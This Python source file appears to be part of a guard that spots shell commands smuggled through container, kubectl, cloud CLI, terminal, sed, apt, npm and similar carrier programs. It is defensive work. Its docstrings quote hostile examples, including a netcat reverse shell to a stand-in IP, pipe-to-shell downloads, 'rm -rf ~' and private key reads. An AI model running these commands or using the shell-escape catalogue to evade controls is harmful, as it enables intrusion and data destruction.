_KEPT_MOUNT = lazy_compile(
    r"^(?:\.{1,2}(?:/|$)|\$\{?PWD\}?(?:/|$)|\$\(pwd\)(?:/|$)|`pwd`(?:/|$)|[\w.-]+$"
    r"|/(?:home|Users)/[^/]+/(?!Library(?:/|$)|bin(?:/|$))[^./][^/]*(?:/|$)"
    r"|(?:~|\$HOME|\$\{HOME\})/(?!Library(?:/|$)|bin(?:/|$))[^./][^/]*(?:/|$)"
    r"|/(?:tmp|srv|mnt|data|work|workspaces?|src|code|builds|app|__w)(?:/|$))"
)
"""A host directory whose files no finding about the machine's set-up names: the working directory
(``.``, ``$PWD/x``, ``$(pwd)``), a named volume, a folder of a home that is not hidden, ``Library`` or
``bin`` (``/home/runner/work/repo``), or a place projects and scratch files live (``/tmp``, ``/srv``)."""
_CONTAINER_COMMANDS = frozenset({"run", "create", "exec"})
_OTHER_OBJECTS = frozenset({"network", "volume", "secret", "config", "context", "manifest", "buildx",
                            "builder", "imagetools", "plugin", "node", "trust", "image", "images", "pod",
                            "machine", "swarm", "stack", "artifact", "farm", "kube"})  # fmt: skip
"""Objects of a container engine that are not containers: their ``create`` (``docker network create``,
``docker secret create NAME FILE``, ``docker buildx imagetools create -t TAG SRC...``, ``podman manifest
create``) makes a network, a secret, an image list, never a container that runs the words after it."""


def container_verb(values: Sequence[str]) -> int | None:
    """Where ``run``/``create``/``exec`` of a container stands in ``docker|podman|nerdctl VALUES``:
    the first such word, unless a word before it names another kind of object (:data:`_OTHER_OBJECTS`;
    not an option's value: ``docker -H image run ...`` still runs a container); None when the line
    starts no container."""
    for i, value in enumerate(values):
        if value in _OTHER_OBJECTS and not (i and values[i - 1].startswith("-")):
            return None
        if value in _CONTAINER_COMMANDS:
            return i
    return None


def confines(name: str, values: Sequence[str]) -> str | None:
    """How ``name VALUES`` keeps the command it runs to a container: ``"run"`` for ``docker``/``podman``/
    ``nerdctl`` ``run``/``create`` with no option that shares the host (``--privileged``, ``--cap-add``,
    ``--device``, ``--pid=host`` ...) and no host directory mounted that holds the machine's set-up
    (``/``, ``/etc``, a home, its dot-folders: those paths are put back as the host's by
    :func:`_container`); ``"exec"`` for a container made earlier, whose options the line does not show
    (``docker exec``, ``docker compose run|exec``, ``kubectl exec POD --``); for ``kubectl run NAME
    --image=X -- CMD``, ``"run"``: the new pod holds what CMD changes (:func:`_pod_level`); None otherwise."""
    if name in ("kubectl", "oc"):
        return _pod_level(values)
    if name not in ("docker", "podman", "nerdctl"):
        return None
    start = container_verb(values)
    if start is None:
        return None
    level = "exec" if values[start] == "exec" or "compose" in values[:start] else "run"
    i = start + 1
    while i < len(values) and values[i].startswith("-"):
        word, equals, value = values[i].partition("=")
        if not equals and word not in _CONTAINER_FLAGS and i + 1 < len(values):
            i += 1
            value = values[i]
        i += 1
        if word in _HOST_SHARING or (word in _HOST_NAMESPACES and value == "host"):
            return None
        if word in ("-v", "--volume") and not _KEPT_MOUNT.match(value.partition(":")[0]):
            return None
        if word == "--mount":
            fields = dict(f.partition("=")[::2] for f in value.split(","))
            source = fields.get("source") or fields.get("src", "")
            if fields.get("type", "volume") == "bind" and not _KEPT_MOUNT.match(source):
                return None
    return level if i + 1 < len(values) else None  # an image (or container) and a command


def image_arguments(name: str, values: Sequence[str]) -> int | None:
    """Where the words after the image start in ``docker run|create [OPTIONS] IMAGE ARGS`` when the
    container shares nothing with the host (:func:`confines` is ``"run"``) and mounts nothing at all
    (no ``-v``/``--mount``/``--volumes-from``/``--tmpfs`` of a host directory): then a path in ARGS
    (``postgres -c ssl_key_file=/etc/ssl/private/db.key``, ``cat /etc/ssl/private/x.key``) is one
    of the image's own files, not this machine's. None otherwise (``docker exec`` runs in a
    container made earlier, whose mounts the line does not show)."""
    if name not in ("docker", "podman", "nerdctl") or confines(name, values) != "run":
        return None
    start = container_verb(values)
    if start is None or values[start] == "exec" or "compose" in values[:start]:
        return None
    i = start + 1
    while i < len(values) and values[i].startswith("-"):
        word, equals, _ = values[i].partition("=")
        if word in ("-v", "--volume", "--mount") or (word.startswith("-v") and len(word) > 2):
            return None
        if not equals and word not in _CONTAINER_FLAGS and i + 1 < len(values):
            i += 1
        i += 1
    return i + 1 if i < len(values) else None


_NEW_POD_KINDS = frozenset({"job", "cronjob", "cj", "deployment", "deploy"})


def _pod_command(values: Sequence[str]) -> str | None:
    """What ``kubectl``/``oc`` runs after ``--``: ``"exec"`` in a pod made earlier (``exec POD --``,
    ``debug POD --``), ``"new"`` in a pod it starts (``run NAME --image=X --``, ``create
    job|cronjob|deployment NAME --image=X --``), ``"node"`` on a node (``debug node/NAME --``)."""
    if "--" not in values:
        return None
    before = values[: values.index("--")]
    if "exec" in before:
        return "exec"
    if "debug" in before:
        return "node" if any(v.startswith(("node/", "nodes/", "no/")) for v in before) else "exec"
    if "run" in before or ("create" in before and not _NEW_POD_KINDS.isdisjoint(before)):
        return "new"
    return None


def _pod_level(values: Sequence[str]) -> str | None:
    """How kubectl keeps the command after ``--`` to a pod (see :func:`confines`): a new pod given no
    ``--overrides`` (which may hand it the node: judged by the privilege rule) holds what it changes
    (``"run"``); a pod made earlier, whose mounts the line does not show, ``"exec"``; a node, nothing."""
    where = _pod_command(values)
    if where == "new":
        return None if any(v.startswith("--overrides") for v in values) else "run"
    return "exec" if where == "exec" else None


def _kube_remote(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """The commands kubectl or oc runs in a pod: ``exec POD -- CMD``, ``run NAME --image=X -- CMD`` (and
    ``create job|cronjob|deployment``, ``debug``). A node's debugging pod mounts the node's root
    at ``/host``: its ``chroot /host CMD`` (the platforms' runbooks' step) is CMD on the node, judged
    as itself; the pod, a root shell on the node, is asked by the privilege rule's debugging category."""
    where = _pod_command(values)
    if where == "node":
        rest = list(values[values.index("--") + 1 :])
        if len(rest) >= 2 and rest[0] == "chroot" and rest[1].rstrip("/") == "/host":
            rest = rest[2:]
        if rest:
            yield rest[0] if len(rest) == 1 else shlex.join(rest)
    elif where:
        yield from _rest_after("--")(values, fed)
    yield from _cloud_remote(values, fed)


_COMMANDS = frozenset({"--command"})


def _cloud_remote(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """The commands a cloud CLI runs on a machine: ``aws ssm send-command --parameters commands=CMD``,
    ``az vm run-command invoke --scripts CMD``,
    ``az vm extension set --settings '{"commandToExecute": CMD}'``, ``gcloud compute ssh --command CMD``."""
    yield from _by_options("--command", "--scripts")(values, fed)
    # gcloud run jobs create --command=bash --args="-c,CODE": the shell's code rides in the list of args
    if any(command.rsplit("/", 1)[-1] in _SHELL_NAMES for command in _option_values(values, _COMMANDS)):
        for arguments in _option_values(values, frozenset({"--args"})):
            if arguments.startswith("-c,"):
                yield arguments.removeprefix("-c,")
    for document in _option_values(values, frozenset({"--parameters", "--settings", "--protected-settings"})):
        text = document.strip()
        if text.startswith("{"):
            try:
                loaded = json.loads(text)
            except ValueError:
                loaded = None
            if isinstance(loaded, dict):
                for key in ("commands", "commandToExecute", "script"):
                    found = loaded.get(key)
                    lines = found if isinstance(found, list) else [found]
                    yield from (line for line in lines if isinstance(line, str))
        elif text.startswith("commands="):
            yield text.removeprefix("commands=").strip("[]\"'")


TERMINALS = frozenset({"xterm", "uxterm", "urxvt", "rxvt", "rxvt-unicode", "konsole", "xfce4-terminal",
                        "terminator", "alacritty", "st", "x-terminal-emulator", "lxterminal", "mate-terminal",
                        "tilix", "qterminal", "sakura", "foot", "kitty", "wezterm", "gnome-terminal",
                        "ptyxis", "kgx", "terminology", "eterm", "aterm", "xvt"})  # fmt: skip
"""Terminal emulators: ``-e CMD``, ``-x CMD``, ``--command CMD``, ``-- CMD`` run a command."""


def _terminal(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    yield from _rest_after("-e", "-x", "--", "--command", "--execute", "-c")(values, fed)
    for value in values:
        if value.startswith(("--command=", "--execute=")):
            yield value.partition("=")[2]


_PRINTS = frozenset({"echo", "printf", "grep", "egrep", "fgrep", "rg", "man", "apropos", "which", "type",
                     "whatis",
                     "help", "info", "tldr", "complete", "compgen", "history", "alias", "print"})  # fmt: skip
"""Programs whose ``sh -c CODE`` arguments are text, not a command they run."""
_SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "yash"})


def _shell_in_arguments(values: Sequence[str]) -> Iterator[str]:
    """``valgrind sh -c CODE``, ``start-stop-daemon -x /bin/sh -- -c CODE``: a shell with its code,
    among the arguments."""
    words = [v for v in values if v != "--"]
    for index, value in enumerate(words[:-2]):
        if value.rsplit("/", 1)[-1] in _SHELL_NAMES and re.fullmatch(r"-[a-zA-Z]*c", words[index + 1]):
            yield words[index + 2]
            return


_TEXT_PROGRAMS = frozenset({
    # version control and trackers: messages, titles, bodies
    "git", "gh", "glab", "hub", "svn", "hg", "jj", "fossil", "bzr", "tea", "jira", "linear", "sl",
    # notices and speech: text shown to a person
    "notify-send", "terminal-notifier", "say", "espeak", "logger", "wall", "write", "zenity", "kdialog",
    "whiptail", "dialog", "cowsay", "figlet", "toilet", "banner", "osascript", "xmessage", "gxmessage",
    "dmenu", "boxes", "lolcat", "cowthink", "ponysay", "apprise",
    # searches, filters and data languages: patterns and programs of their own
    "ag", "ack", "ack-grep", "fzf", "sk", "jq", "yq", "gojq", "jaq", "sed", "gsed", "tr", "xq", "mlr",
    "sqlite3", "psql", "mysql", "mariadb", "mongosh", "mongo", "redis-cli", "duckdb", "clickhouse-client",
    # requests and clipboards: the text is data sent or kept
    "curl", "wget", "http", "https", "xh", "curlie", "pbcopy", "xclip", "xsel", "wl-copy",
    # test runners: `pytest -k 'a or b'` selects tests by an expression of their own
    "pytest", "py.test",
    # disk-image builders: `virt-customize -a img --run-command CMD` runs CMD inside the image
    "virt-customize", "virt-sysprep", "virt-builder", "guestfish",
})  # fmt: skip
"""Programs that take free text (a message, a pattern, a query, a request body) as an argument, or
a command they run somewhere else than this machine (inside a disk image): a string among their
arguments that reads as a command is not one they run here."""

_TEXT_OPTION = lazy_compile(
    r"^--?(?:m|t|b|k|message|msg|title|body|desc|description|note|notes|comment|subject|summary|text|"
    r"label|name|query|search|grep|pattern|regex|filter|format|template|reason|placeholder|prompt|header|"
    r"footer|question|caption|hint)$"
)
"""Options whose value is text by name (``--message``, ``-m``, ``--title``, ``--query``, a keyword
expression's ``-k`` ...)."""

_COMMAND_START = lazy_compile(r"^\s*(?:[A-Za-z_][A-Za-z0-9_]*=\S*\s+)*[a-z][a-z0-9._+-]*\s")
"""A string that starts as a command line: a lower-case program name (after assignments), then more."""

_PROGRAM_NAME = lazy_compile(r"^[A-Za-z0-9_.][A-Za-z0-9._+@-]*$")
"""A name a program can have (``--add]``, a word of tldr's ``[-a|--add]`` notation, is none)."""

_SHELL_OPERATOR = lazy_compile(r"\||;|&&|\$\(|`|>|<\(")
_QUOTED_IN_PROSE = lazy_compile(r"^[^|;&<>`$]*(?:`[^`]*`[^|;&<>`$]*)+$")
"""Text whose only shell operators are pairs of backticks around names, as messages quote them
(``"`$dest/just` already exists"``): what is outside them reads as prose, not code."""
_BACKTICKED = lazy_compile(r"`([^`]*)`")


def unknown_program(name: str) -> bool:
    """Whether ``name`` is a program no rule of the guards knows how it reads its arguments: not a
    carrier, an interpreter, a shell, a printer of text or a program that takes free text."""
    from .interpreters import INTERPRETERS  # here: interpreters imports programs, which imports this

    return bool(_PROGRAM_NAME.match(name)) and not (
        name in _CARRIERS
        or name in _PRINTS
        or name in _SHELL_NAMES
        or name in _TEXT_PROGRAMS
        or INTERPRETERS.match(name)
    )


def _command_strings(values: Sequence[str], code_options: bool = False) -> Iterator[str]:
    """``someprog -c "curl … | sh"``, ``tool --hook='rm -rf ~'``, ``sh ok.sh 'rm -rf ~'``: an argument of
    a program the guards do not know (or of a script) that reads as a command line (a program name
    and more, or shell operators), judged as the command it would be if the program ran it. After an
    option or a verb that names a command (``--exec``, ``-c``, ``run``) it is one; anywhere else it
    may be text the program only shows (``gum confirm 'rm -rf ~?'``): a :class:`Perhaps`, asked.
    Values of text options (``--message``, ``-t``) are text; with ``code_options`` (a script run by an
    interpreter) so are the values of code options (``manage.py shell -c CODE`` is Python)."""
    previous = ""
    for value in values:
        option, equals, rest = value.partition("=")
        named = option if equals and option.startswith("-") else previous
        text = rest if equals and option.startswith("-") else value
        if _TEXT_OPTION.match(named):
            text = ""
        elif code_options and _CODE_OPTION.match(named):
            # manage.py shell -c CODE is the script's own language; exploit.php -c "nc -e /bin/sh IP 4444"
            # is a shell command it hands on: judged, and asked at most (it may be either)
            if text and _COMMAND_START.match(text):
                yield Perhaps(text)
            text = ""
        runs = _COMMAND_OPTION.match(named) or named in _RUN_VERBS
        if text and not runs and not _COMMAND_START.match(text) and _QUOTED_IN_PROSE.match(text):
            # err "`$dest/just` already exists": Markdown's backticks around a name in a message; what
            # they hold is judged if it reads as a command line itself
            for found in _BACKTICKED.finditer(text):
                span = found.group(1)
                if _COMMAND_START.match(span) or _SHELL_OPERATOR.search(span):
                    # at the start, the substitution's output would be the command: judged as that
                    yield Perhaps(found.group(0) if not text[: found.start()].strip() else span)
            text = ""
        if text and (_COMMAND_START.match(text) or (_SHELL_OPERATOR.search(text) and " " in text.strip())):
            yield text if runs and not (code_options and named in _RUN_VERBS) else Perhaps(text)
        previous = value


_RUN_VERBS = frozenset({"-c", "-e", "-x", "--command", "run", "exec", "execute"})
"""Options and verbs whose value is a command by convention (``tool -c CMD``, ``tool run CMD``)."""


_SCRIPT_LANGUAGES = lazy_compile(
    r"^(?:python[\d.]*|pypy[\d.]*|perl[\d.]*|ruby[\d.]*|node|nodejs|bun|deno|php[\d.]*|lua[\d.]*|"
    r"tclsh[\d.]*|Rscript)$"
)
"""Interpreters whose script is a file named on the command line, its arguments after it."""
_SCRIPT_FILE = lazy_compile(r"\.(?:py|pl|pm|rb|js|mjs|cjs|ts|mts|php|lua|tcl|R|r)$")
_CODE_FLAG = lazy_compile(r"^-[A-Za-z]*[cemEr]$|^--(?:eval|print|command|module|require|import)$")
"""An interpreter's option whose value is code or a module, not a script file (``-c``, ``-e``, ``-m``)."""
_COMMAND_OPTION = lazy_compile(
    r"^--?(?:cmd|exec|execute|run|shell|shell-cmd|shell-command|command-line|cmdline|hook|on-\w+)$"
)
"""A script's option whose value, by its name, is a command it runs (``--cmd``, ``--exec``)."""
_CODE_OPTION = lazy_compile(r"^--?(?:c|command|code|e|eval|script|sql|expr|expression)$")
"""A script's option whose value is code of its own language (Django's ``manage.py shell -c``)."""


def _script_arguments(name: str, values: Sequence[str]) -> list[str] | None:
    """The arguments after the script file a shell or an interpreter runs (``sh undock.sh ARG``,
    ``python3 tool.py --cmd ARG``); None when it runs code given inline (``-c``), a module or its
    standard input."""
    shell = name in _SHELL_NAMES
    index = 0
    while index < len(values):
        value = values[index]
        if shell:
            if value == "--":
                index += 1
                break
            if value in ("--rcfile", "--init-file"):
                index += 2
                continue
            if value[:1] in "-+" and len(value) > 1 and not value.startswith("--"):
                if "c" in value or "s" in value:
                    return None  # sh -c CODE: judged as code; sh -s ARGS: the script is the input
                index += 2 if value[-1] in "oO" else 1
                continue
            if value.startswith("--"):
                index += 1
                continue
            break
        if _CODE_FLAG.match(value) or value == "-":
            return None
        if not value.startswith("-") and _SCRIPT_FILE.search(value):
            break
        index += 1
    if index >= len(values):
        return None
    return list(values[index + 1 :])


def _script_command_strings(name: str, values: Sequence[str]) -> Iterator[str]:
    """``sh undock.sh "curl … | sh"``, ``python3 tool.py 'rm -rf ~'``: an argument of a script that reads
    as a command line, judged as that command (the script may well run it: Kubernetes Goat's
    undock.sh does), alike for a shell's script and an interpreter's (:func:`_command_strings`):
    asked, since the agent cannot know whether the script runs it or only prints it, unless an
    option names it a command (``--cmd``, ``--exec``). An interpreter's script's code options are
    its own language (``manage.py shell -c CODE`` is Python)."""
    arguments = _script_arguments(name, values)
    if arguments:
        yield from _command_strings(arguments, code_options=name not in _SHELL_NAMES)


_APT_HOOKS = lazy_compile(
    r"^(?:APT::Update::(?:Pre|Post)-Invoke(?:-Success)?|DPkg::(?:Pre|Post)-Invoke|"
    r"DPkg::Pre-Install-Pkgs|APT::Update::List-Refresh)(?:::)?=(.+)$",
    re.IGNORECASE,
)


def _apt(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """apt-get -o APT::Update::Pre-Invoke::=CMD: a hook apt runs in a shell."""
    for value in _option_values(values, frozenset({"-o", "--option"})):
        hook = _APT_HOOKS.match(value)
        if hook is not None:
            yield hook.group(1)


def _tex(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """latex --shell-escape '\\write18{CMD}': TeX runs CMD."""
    for text in [*values, *fed]:
        for match in re.finditer(r"\\write18\s*\{([^}]{1,4000})\}", text):
            yield match.group(1)


def _npm(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``npx -c CMD``, ``npm exec -c CMD``: a shell command run with the package's binaries on the path;
    ``--script-shell PROG``: the shell every script runs in; ``--node-options '--require ./x.js'``:
    the files each node process loads first (as ``node ./x.js``)."""
    yield from _by_options("-c", "--call", "--script-shell")(values, fed)
    for options in _option_values(values, frozenset({"--node-options"})):
        yield from _node_preloads(options)
    words = [value for value in values if not value.startswith("-")]
    setting = words[2:] if words[:2] == ["config", "set"] else words[1:] if words[:1] == ["set"] else []
    if setting:  # npm config set script-shell ./x.sh: what every later script runs in
        key, equals, value = setting[0].partition("=")
        value = value if equals else " ".join(setting[1:2])
        if key in _NPM_PROGRAMS and value:
            yield value
        elif key == "node-options":
            yield from _node_preloads(value)


_NPM_PROGRAMS = frozenset({"script-shell", "shell", "git"})
"""npm settings whose value is a program npm runs (the shell of scripts and ``npm exec``, git)."""


_NODE_PRELOAD = lazy_compile(r"(?:^|\s)(?:--require|-r|--import|--loader|--experimental-loader)[=\s]+(\S+)")


def _node_preloads(options: str) -> Iterator[str]:
    """``--require ./x.js`` in node's options: ``node ./x.js`` (a module of the project it loads)."""
    for module in _NODE_PRELOAD.findall(" " + options):
        if module.startswith((".", "/")):
            yield shlex.join(["node", module])


_GO_BUILDS = frozenset({"build", "test", "run", "install", "vet", "generate", "list", "get"})


def _go(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``go build -toolexec CMD``, ``go test -exec CMD``: a program go runs each tool (or test) with."""
    if values[:1] and values[0] in _GO_BUILDS:
        yield from _by_options("-toolexec", "--toolexec", "-exec", "--exec")(values[1:], fed)


# -- programs that run a program named by an option (GTFOBins' sudo list) --------------------


def _rest_after_until(*markers: str, end: str = ";") -> _Extract:
    """The words after ``markers`` up to ``end``, a command line (``fd -x CMD ARGS ;``)."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for index, value in enumerate(values):
            if value in markers and index + 1 < len(values):
                rest = list(values[index + 1 :])
                rest = rest[: rest.index(end)] if end in rest else rest
                if rest:
                    yield shlex.join(rest)
                return

    return extract


def _start_stop_daemon(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``start-stop-daemon -S -x PROGRAM -- ARGS`` (``--startas``): PROGRAM runs with ARGS."""
    if not {"-S", "--start"} & set(values):
        return
    args = list(values[values.index("--") + 1 :]) if "--" in values else []
    for program in _option_values(values, frozenset({"-x", "--exec", "-a", "--startas"})):
        yield shlex.join([program, *args])
        return


def _subcommand_runs(*verbs: str, skip: int = 0, valued: frozenset[str] = frozenset()) -> _Extract:
    """``npm exec CMD``, ``uv run CMD``, ``xdotool exec CMD``, ``perf stat CMD``: after the verb (and
    ``skip`` more words: ``codex sandbox linux CMD``), the first word that is no option (nor the value
    of a ``valued`` option: ``conda run -n ENV CMD``) starts a command line."""
    wanted = frozenset(verbs)

    def starts(rest: list[str]) -> int:
        i = 0
        while i < len(rest) and rest[i].startswith("-"):
            i += 2 if rest[i] in valued else 1
        return min(i, len(rest))

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        words = list(values)
        at = next((i for i, v in enumerate(words) if not v.startswith("-")), None)
        if at is None or words[at] not in wanted:
            return
        rest = words[at + 1 + skip :]
        rest = rest[rest.index("--") + 1 :] if "--" in rest else rest[starts(rest) :]
        if rest:
            yield shlex.join(rest)

    return extract


def _chain(*extracts: _Extract) -> _Extract:
    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for one in extracts:
            yield from one(values, fed)

    return extract


def _comma_program(*options: str) -> _Extract:
    """``gcc -wrapper PROG,ARG``, ``busctl --address=unixexec:path=PROG,argv1=ARG``: a program and its
    arguments written with commas."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for value in _option_values(values, frozenset(options)):
            if value.startswith("unixexec:"):
                fields = dict(part.partition("=")[::2] for part in value[9:].split(","))
                argv = [fields[k] for k in sorted(k for k in fields if k.startswith("argv"))]
                if fields.get("path"):
                    yield shlex.join([fields["path"], *argv])
            elif not value.startswith(("unix:", "tcp:", "kernel", "x-machine")):
                yield shlex.join(value.split(","))

    return extract


def _bang(*options: str) -> _Extract:
    """``mail --exec='!CMD'``, ``hg --config alias.x=!CMD``: a value whose ``!`` starts a shell command."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for value in _option_values(values, frozenset(options)):
            command = value.partition("!")[2] if "!" in value else ""
            if command.strip():
                yield command

    return extract


_FZF_ACTION = lazy_compile(r"(?:execute(?:-silent|-multi)?|become|reload|preview)[(\[{<]([^)\]}>]{1,4000})")


def _fzf(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``fzf --bind 'enter:execute(CMD)'``: CMD runs when the key is pressed."""
    for value in _option_values(values, frozenset({"--bind"})):
        for match in _FZF_ACTION.finditer(value):
            yield match.group(1)


def _program_code(*options: str) -> _Extract:
    """``bpftrace -e 'BEGIN { system("CMD") }'``, ``gnuplot -e 'system("CMD")'``: a ``system("CMD")``
    call in code an option gives."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        for value in [*_option_values(values, frozenset(options)), *fed]:
            for match in _SYSTEM_CALL.finditer(value):
                yield match.group(2)

    return extract


_SYSTEM_BIN = frozenset({"/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"})


def _run_parts(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``run-parts --regex '^sh$' /bin``: run-parts runs the programs of a directory; the system's own
    directories hold the shells."""
    if {"--test", "--list", "--help", "--version"} & set(values):
        return
    if any(v.rstrip("/") in _SYSTEM_BIN for v in values if v.startswith("/")):
        yield "sh"


def _script(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``script -q /dev/null``: with no command, script runs the user's shell on its terminal."""
    if not any(v in ("-c", "--command") or v.startswith("--command=") for v in values) and not {
        "-V",
        "--version",
        "-h",
        "--help",
    } & set(values):
        yield "sh"


_RPM_MACRO_SHELL = lazy_compile(r"%\(([^)]{1,4000})\)")


def _rpm(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``rpm --eval '%(CMD)'`` (a macro's shell expansion), ``rpm --pipe CMD``."""
    yield from _by_options("--pipe")(values, fed)
    for value in _option_values(values, frozenset({"--eval", "-E"})):
        for match in _RPM_MACRO_SHELL.finditer(value):
            yield match.group(1)


def _web_shell(program: str) -> _Extract:
    """``curl 'http://h/shell.php?cmd=nc -c sh IP 1337'``, ``curl -d 'ip=1;CMD' h/ping``: the command a
    request hands to another host's shell (a web shell's parameter, an injected command)."""

    def extract(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
        from .web_payloads import shell_commands  # only for a request: most commands never need it

        yield from shell_commands(program, values)

    return extract


def _csvtool(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``csvtool call CMD FILE``: CMD runs for each row."""
    words = [v for v in values if not v.startswith("-")]
    if len(words) > 1 and words[0] == "call":
        yield words[1]


_SED_EXECUTE = lazy_compile(
    r"^\s*(?:(?:\d+|\$|/(?:[^/\\]|\\.)*/)(?:\s*,\s*(?:\d+|\$|/(?:[^/\\]|\\.)*/))?\s*!?\s*)?e(?:\s+(.*))?$"
)
"""GNU sed's ``e`` command, after an optional address: ``e CMD`` runs CMD, a bare ``e`` runs the pattern
space (the input line) as a command."""
_SED_ADDRESS = r"(?:\d+(?:~\d+)?|\$|[+~]\d+|/(?:[^/\\]|\\.)*/[IM]*)"
"""A sed address: a line number (``first~step``), ``$``, ``+N``/``~N`` after a comma, or ``/regex/``
(``I``, ``M``)."""
_SED_COMMAND_START = (
    rf"^\s*(?:(?:{_SED_ADDRESS}(?:\s*,\s*{_SED_ADDRESS})?\s*!*\s*)?\{{\s*)*"
    rf"(?:{_SED_ADDRESS}(?:\s*,\s*{_SED_ADDRESS})?\s*!*\s*)?"
)
"""Where a sed command starts: after its addresses, ``!`` and any ``{`` of a block."""
_SED_SUBSTITUTE = r"s([^\\\n])(?:\\.|(?!\1)[^\\])*\1(?:\\.|(?!\1)[^\\])*\1[gpIiMm0-9]*e"
"""``s/X/Y/FLAGSe``, a delimiter escaped inside X or Y (``s/^/curl https:\\/\\/h/e``) read as text."""
_SED_SUBSTITUTE_EXECUTE = lazy_compile(_SED_COMMAND_START + _SED_SUBSTITUTE)
"""``s/X/Y/e``: the line after the substitution runs as a command. The ``s`` is sed's command, not a letter
of an address's regex (``/assert x/,/assert y/ d`` runs nothing)."""
_SED_CUSTOM_ADDRESS = lazy_compile(rf"^\s*(?:{_SED_ADDRESS}\s*,\s*)?\\[^\n]")
"""``\\%regex%``: an address with a delimiter of its own, which the pattern above does not read; a line
with one is searched for ``s…e`` anywhere in its first words, as before."""
_SED_SUBSTITUTE_EXECUTE_ANYWHERE = lazy_compile(r"^\s*[^s]{0,40}" + _SED_SUBSTITUTE)
_SED_VALUES = frozenset({"-l", "--line-length", "-s"})


def sed_runs_input(values: Sequence[str]) -> bool:
    """GNU sed's bare ``e`` or ``s/X/Y/e`` among sed's words ``values``: it runs the lines it reads."""
    return any(isinstance(command, _InputRun) for command in _sed(values, ()))


class _InputRun(str):
    """What :func:`_sed` yields for the lines it runs from its input: a shell's, ``sh``."""

    __slots__ = ()


_INPUT_RUN = _InputRun("sh")


def _sed(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """GNU sed's ``e``: ``sed -n '1e CMD' FILE`` runs CMD; ``sed e`` and ``s/x/y/e`` run the lines they read
    (any command the input holds: a shell's, here ``sh``)."""
    scripts = list(_option_values(values, frozenset({"-e", "--expression"})))
    if not scripts and not any(v in ("-f", "--file") or v.startswith("--file=") for v in values):
        index = 0
        while index < len(values):
            value = values[index]
            if value == "--":
                scripts.extend(values[index + 1 : index + 2])
                break
            if not value.startswith("-") or value == "-":
                scripts.append(value)
                break
            index += 2 if value in _SED_VALUES else 1
    for script in scripts:
        for line in re.split(r"[\n;]", script):
            execute = _SED_EXECUTE.match(line)
            if execute is not None:
                yield execute.group(1) or _INPUT_RUN
            elif _SED_SUBSTITUTE_EXECUTE.match(line) or (
                _SED_CUSTOM_ADDRESS.match(line) and _SED_SUBSTITUTE_EXECUTE_ANYWHERE.match(line)
            ):
                yield _INPUT_RUN


_IP_RUNS = (("netns", "exec"), ("vrf", "exec"))


def _ip(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``ip netns exec NAME CMD``, ``ip vrf exec NAME CMD``: CMD runs in the namespace, as ip's user."""
    words = [v for v in values if not v.startswith("-")]
    for first, second in _IP_RUNS:
        if words[:2] == [first, second] and len(words) > 3:
            at = values.index(second) + 2
            rest = values[at:]
            yield rest[0] if len(rest) == 1 else shlex.join(rest)
            return


def _capsh(values: Sequence[str], fed: Sequence[str]) -> Iterator[str]:
    """``capsh [OPTIONS] -- [ARGS]``: capsh runs bash with ARGS (``--`` alone: an interactive bash)."""
    if "--" in values:
        yield shlex.join(["bash", *values[values.index("--") + 1 :]])


_CARRIERS: dict[str, _Extract] = {
    "tar": _tar, "gtar": _tar, "bsdtar": _tar,
    "zip": _by_options("-TT", "--unzip-command"),
    "rsync": _by_options("-e", "--rsh", "--rsync-path"),
    "man": _by_options("-P", "--pager", "-H", "--html"),
    "split": _by_options("--filter"),
    "flock": _by_options("-c", "--command"),
    "gdb": _gdb, "gdb-multiarch": _gdb, "cgdb": _gdb,
    **{name: _vim for name in ("vim", "vi", "nvim", "ex", "view", "vimdiff", "rvim", "gvim", "evim", "ed",
                               "red", "nex", "nvi", "elvis", "vile", "rview", "gview", "rgvim", "rgview",
                               "vimx", "nvim-qt", "neovide", "gex")},
    **{name: _apt for name in ("apt", "apt-get", "aptitude", "apt-cache")},
    **{name: _tex for name in ("tex", "latex", "pdflatex", "xelatex", "lualatex", "luatex", "pdftex", "etex",
                               "context", "mpost")},
    "latexmk": _chain(_tex, _by_options("-pdflatex", "-latex", "-lualatex", "-xelatex", "-dvipdf", "-ps2pdf",
                                        "-pdfdvi", "-pdfps", "-pdfxelatex", "-pdflualatex")),
    "sqlite3": _sqlite, "sqlite": _sqlite,
    **{name: _bang_lines for name in ("ftp", "sftp", "lftp", "smbclient", "tftp", "ncftp", "mysql", "mariadb",
                                      "psql", "dc")},
    **{name: _sql_server for name in ("sqlcmd", "osql", "isql")},
    **{name: _mongo_shell for name in ("mongo", "mongosh")},
    "make": _make, "gmake": _make, "bmake": _make,
    "osascript": _osascript,
    "launchctl": _launchctl,
    "security": _security_shell,
    "screen": _screen,
    "tmux": _tmux,
    "parallel": _parallel,
    "ssh": _ssh_options, "scp": _ssh_options, "sftp-ssh": _ssh_options, "autossh": _ssh_options,
    "git": _git,
    "cmake": _cmake,
    "go": _go,
    **{name: _npm for name in ("npx", "bunx", "pnpx")},
    **{name: _chain(_npm, _subcommand_runs("exec")) for name in ("npm", "pnpm", "yarn")},
